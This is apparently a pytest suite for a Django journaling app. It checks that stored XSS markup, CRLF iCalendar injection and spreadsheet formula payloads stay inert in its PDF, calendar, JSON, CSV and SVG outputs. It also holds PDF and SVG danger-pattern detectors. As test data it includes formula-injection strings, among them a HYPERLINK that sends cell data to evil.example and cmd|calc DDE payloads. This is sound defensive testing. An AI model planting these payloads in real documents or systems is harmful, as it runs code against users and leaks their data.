"""Stored script, markup and line-break injection in everything that is not a web page.

The pages are covered by test_site_guards (every free-text field holds markup, every page
shows it escaped). Here every free-text field holds a longer payload, with a CRLF and an
iCalendar property after it, and each other way the journal leaves the site is read back
with the parser a real reader would use: the PDFs with pypdf, the calendar feed with
icalendar, the JSON export with json, the CSV export with csv (and a spreadsheet's eyes),
the SVG charts with an XML parser.
"""

import csv
import io
import json
import re
import zipfile
from datetime import timedelta
from urllib.parse import urlsplit
from xml.etree import ElementTree

import icalendar
import pytest
from django.db import IntegrityError, models, transaction
from django.urls import reverse
from django.utils import timezone
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, NameObject

from withness.care import pdf
from withness.care.summary import Section, notes_in_range, summary_build
from withness.growth import services as growth_services
from withness.hardening.sweep import Actor
from withness.insights import charts
from withness.journal.models import Interaction
from withness.people.models import Person
from withness.portability import exports
from withness.testing.world import _SHORTER_PAYLOADS, build_world, is_free_text

pytestmark = pytest.mark.django_db

MARKUP = "<script>alert(1)</script><img src=x onerror=alert(1)>\"'&"
CRLF = "\r\nATTENDEE:mailto:x@example.com"
PAYLOAD = MARKUP + CRLF
# The longest that fits each field; names (80 characters) still get the CRLF.
PAYLOADS = (PAYLOAD, "<script>alert(1)</script>\"'&" + CRLF, MARKUP, *_SHORTER_PAYLOADS)
# What spreadsheet apps run as a formula when a cell starts with it.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
NOT_TEXT_FIELDS = (models.EmailField, models.URLField, models.SlugField)
DANGEROUS_PDF_NAMES = {
    "/JavaScript",
    "/JS",
    "/AA",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/RichMedia",
    "/EmbeddedFile",
    "/EmbeddedFiles",
}


def fill_text(world, texts) -> list[str]:
    """Put texts(field) in every free-text field that build_world(xss=True) filled."""
    stored = []
    for obj in world.all_objects():
        changed = {}
        for f in obj._meta.concrete_fields:
            if not is_free_text(f) or isinstance(f, NOT_TEXT_FIELDS):
                continue
            if getattr(obj, f.attname) not in _SHORTER_PAYLOADS:
                continue
            text = texts(f)
            if text is not None:
                changed[f.attname] = text
        if not changed:
            continue
        for name, text in changed.items():
            setattr(obj, name, text)
        try:
            with transaction.atomic():
                obj.save(update_fields=list(changed))
        except IntegrityError:  # a unique field: keep what the world put there
            obj.refresh_from_db()
            continue
        stored += changed.values()
    return stored


def longest_payload(f):
    limit = f.max_length or 1_000_000
    return next((p for p in PAYLOADS if len(p) <= limit), None)


@pytest.fixture
def poisoned(owner):
    """A full journal with the payload in every free-text field, and things to show it."""
    world = build_world(owner, xss=True)
    stored = fill_text(world, longest_payload)
    assert PAYLOAD in stored and PAYLOADS[1] in stored
    person = Person.objects.for_user(owner).first()
    assert person.name == PAYLOADS[1]
    # Due for a gentle check-in, and with an open follow-up: both reach the calendar feed.
    person.checkin_every_days = 1
    person.save(update_fields=["checkin_every_days"])
    interaction = Interaction.objects.for_user(owner).first()
    interaction.people.add(person)
    Interaction.objects.filter(pk=interaction.pk).update(
        started_at=timezone.now() - timedelta(days=3),
        after_due_at=timezone.now() - timedelta(hours=1),
        after_pleasant=None,
    )
    return world


def flat(text: str) -> str:
    """Without whitespace: a PDF may break a line anywhere there is a space."""
    return "".join(text.split())


# PDFs


def pdf_text(content: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def is_plain_view(open_action) -> bool:
    """fpdf2 always writes /OpenAction as a destination: open at the first page, fit to width.
    That only says how to show the page; an action dictionary (a script, a launch, a link)
    would do something."""
    view = open_action.get_object()
    if not isinstance(view, ArrayObject) or not view:
        return False
    page, *how = view
    return page.get_object().get("/Type") == "/Page" and all(
        not isinstance(item.get_object(), DictionaryObject | ArrayObject) for item in how
    )


def pdf_problems(content: bytes, *, own_host: str = "testserver") -> list[str]:
    """Anything in the PDF that could run, open, launch or send something."""
    problems = []
    for name in (b"/JavaScript", b"/Launch", b"/SubmitForm", b"/RichMedia"):
        if name in content:
            problems.append(f"{name.decode()} in the bytes")
    reader = PdfReader(io.BytesIO(content))
    seen, stack = set(), [reader.trailer]
    while stack:
        item = stack.pop()
        if isinstance(item, IndirectObject):
            if item.idnum in seen:
                continue
            seen.add(item.idnum)
            item = item.get_object()
        if isinstance(item, DictionaryObject):
            for key, value in item.items():
                if key in DANGEROUS_PDF_NAMES or (
                    isinstance(value, NameObject) and value in DANGEROUS_PDF_NAMES
                ):
                    problems.append(f"{key} {value!r}")
                if key == "/OpenAction" and not is_plain_view(value):
                    problems.append(f"/OpenAction {value.get_object()!r}")
                if key == "/URI":
                    host = urlsplit(str(value.get_object())).hostname
                    if host not in (None, own_host):
                        problems.append(f"a link to {host}")
                stack.append(value)
        elif isinstance(item, ArrayObject):
            stack.extend(item)
    return problems


def test_the_summary_pdf_shows_the_payload_as_text_and_runs_nothing(owner, poisoned):
    today = owner.today()
    start = today - timedelta(days=60)
    notes = [n.key for n in notes_in_range(owner, start, today)]
    snapshot = summary_build(
        user=owner, start=start, end=today, sections=list(Section.values),
        show_names=True, notes=notes,
    )  # fmt: skip
    assert notes

    content = pdf.summary_pdf(snapshot)

    text = flat(pdf_text(content))
    assert flat(MARKUP) in text
    assert flat("<script>alert(1)</script>\"'&") in text  # the name, before its CRLF
    assert not pdf_problems(content)


def test_the_safety_plan_pdf_shows_the_payload_as_text_and_runs_nothing(owner, poisoned):
    # As the owner, past two-step sign-in, which the full journal turns on.
    response = Actor(owner).request("get", reverse("care:safety_plan_pdf"))

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    text = pdf_text(response.content)
    assert flat(MARKUP) in flat(text)
    assert "ATTENDEE:mailto:x@example.com" in text
    assert not pdf_problems(response.content)


# The calendar feed

EVENT_PROPERTIES = {"UID", "DTSTAMP", "DTSTART", "DTEND", "SUMMARY", "DESCRIPTION", "TRANSP", "URL"}


def test_the_calendar_feed_keeps_the_payload_inside_its_property(owner, client, poisoned):
    token = growth_services.feed_create(user=owner).feed_token

    response = client.get(reverse("growth:feed", args=[token]))

    assert response.status_code == 200
    body = response.content
    unfolded = re.sub(rb"\r\n[ \t]", b"", body)
    # Every line is "NAME[;params]:value"; none starts with what the payload tried to add.
    lines = unfolded.split(b"\r\n")
    assert not [line for line in lines if line.upper().startswith(b"ATTENDEE")]
    assert all(b"\r" not in line and b"\n" not in line for line in lines)
    calendar = icalendar.Calendar.from_ical(body)
    assert [c.name for c in calendar.subcomponents] == ["VEVENT"] * len(calendar.subcomponents)
    events = calendar.walk("VEVENT")
    assert len(events) >= 2  # the check-in nudge and the follow-up
    name = "<script>alert(1)</script>\"'&\nATTENDEE:mailto:x@example.com"
    summaries = [str(event["SUMMARY"]).replace("\r\n", "\n") for event in events]
    assert f"You might check in with {name}" in summaries
    assert any(s.startswith("How do you feel after time with ") and name in s for s in summaries)
    for event in events:
        assert set(event) <= EVENT_PROPERTIES, set(event) - EVENT_PROPERTIES
        assert not event.subcomponents
        for value in event.values():
            if isinstance(value, icalendar.vText) and "ATTENDEE" in value:
                assert "\nATTENDEE:mailto:x@example.com" in value.replace("\r\n", "\n")


# The exports


def strings_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def test_the_json_export_keeps_the_payload_exactly_as_data(owner, poisoned):
    document = json.loads(exports.export_json(owner))

    strings = set(strings_in(document))
    assert PAYLOAD in strings  # byte for byte: the JSON export is lossless
    assert PAYLOADS[1] in strings


def csv_cells(content: bytes):
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                text = archive.read(name).decode("utf-8")
                for row in csv.reader(io.StringIO(text, newline="")):
                    for cell in row:
                        yield name, cell


NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def test_the_csv_export_keeps_formulas_from_running_in_a_spreadsheet(owner):
    world = build_world(owner, xss=True)
    turns = iter(range(10**6))

    def formula(f):
        fitting = [text for text in FORMULAS if len(text) <= (f.max_length or 10_000)]
        return fitting[next(turns) % len(fitting)] if fitting else None

    stored = fill_text(world, formula)
    assert set(FORMULAS) <= set(stored)

    cells = list(csv_cells(exports.export_csv_zip(owner)))

    runnable = [
        (name, cell)
        for name, cell in cells
        if cell.startswith(exports.FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]
    assert not runnable
    shown = {cell for _, cell in cells}
    assert {"'" + formula for formula in FORMULAS} <= shown
    # The JSON export is the lossless one: it keeps each text exactly as typed.
    assert set(FORMULAS) <= set(strings_in(json.loads(exports.export_json(owner))))


def test_the_csv_export_keeps_the_payload_as_one_cell(owner, poisoned):
    cells = {cell for _, cell in csv_cells(exports.export_csv_zip(owner))}

    assert PAYLOAD in cells  # quoted, so the CRLF stays inside the cell


def test_negative_numbers_in_the_csv_export_stay_numbers(owner):
    from withness.testing.factories import CheckInFactory

    CheckInFactory(owner=owner, pleasant=-1.5, energy=2.0, note="-just text")

    cells = {cell for _, cell in csv_cells(exports.export_csv_zip(owner))}

    assert "-1.5" in cells
    assert "'-just text" in cells


# SVG charts


def svg_problems(svg: str) -> list[str]:
    """Anything in an SVG that a browser opening it would run."""
    problems = []
    tree = ElementTree.fromstring(svg)  # well-formed, or this raises
    for element in tree.iter():
        tag = element.tag.rsplit("}", 1)[-1].lower()
        if tag in ("script", "foreignobject", "iframe", "object", "embed"):
            problems.append(f"<{tag}>")
        for attribute, value in element.attrib.items():
            name = attribute.rsplit("}", 1)[-1].lower()
            if name.startswith("on"):
                problems.append(f"{name}=")
            if name == "href" and value.strip().lower().startswith(("javascript:", "data:")):
                problems.append(f"href={value[:30]}")
    for raw in ("<script", "<img"):
        if raw in svg:
            problems.append(f"{raw!r} in the text")
    return problems


def forest_row(name: str) -> dict:
    estimate = {"low": -1.0, "high": 1.0, "estimate": 0.2}
    return {"group": "People", "factor": "people", "name": name, "verdict": "lifts",
            "pleasant": estimate, "energy": estimate}  # fmt: skip


@pytest.mark.parametrize(
    "name",
    [PAYLOAD, PAYLOADS[1], "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
     "Sam $\\frac$ & $x$"],
    ids=["payload", "name-with-crlf", "comment-breakout", "cdata-breakout", "mathtext"],
)  # fmt: skip
@pytest.mark.filterwarnings("ignore:Tight layout not applied")
def test_a_name_in_the_insights_chart_stays_text(name):
    svg = charts.forest_svg([forest_row(name), forest_row("Sam")])

    assert not svg_problems(svg)


@pytest.mark.filterwarnings("ignore:Tight layout not applied")
def test_the_insights_charts_served_escape_names(owner):
    from withness.analysis.synthetic import demo_journal
    from withness.insights.demo import synthetic_journal_load

    today = owner.today()
    synthetic_journal_load(
        user=owner, journal=demo_journal(7, days=150, end=today - timedelta(days=1))
    )
    Person.objects.for_user(owner).filter(name="Sam").update(name=PAYLOADS[1])
    Person.objects.for_user(owner).filter(name="Alex").update(name="Alex $\\frac$")

    actor, served = Actor(owner), {}
    for name in ("forest", "balance", "isolation"):
        response = actor.request("get", reverse("insights:chart", args=[name]))
        assert response.status_code == 200, name
        assert response["Content-Type"] == "image/svg+xml"
        # Opened on its own, the chart is a document that may run and load nothing.
        assert "default-src 'none'" in response["Content-Security-Policy"]
        assert "script" not in response["Content-Security-Policy"]
        served[name] = response.content.decode()

    for name, svg in served.items():
        assert not svg_problems(svg), name
    # The name reached the chart (in the comment matplotlib writes beside each label), escaped.
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in served["forest"]
